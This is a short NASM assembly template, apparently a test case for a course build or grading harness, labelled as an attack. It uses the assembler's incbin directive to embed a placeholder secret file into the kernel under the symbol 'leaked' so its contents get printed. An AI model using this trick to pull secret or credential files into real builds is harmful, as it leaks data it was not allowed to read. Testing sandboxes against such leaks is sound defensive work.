; Attack: a host file assembled into the kernel by NASM, then printed.
; (@SKELETON@ stands for the handout's own trap_stubs.asm.)
@SKELETON@

section .rodata
global leaked
leaked:
	incbin "@SECRET@"
	db 0
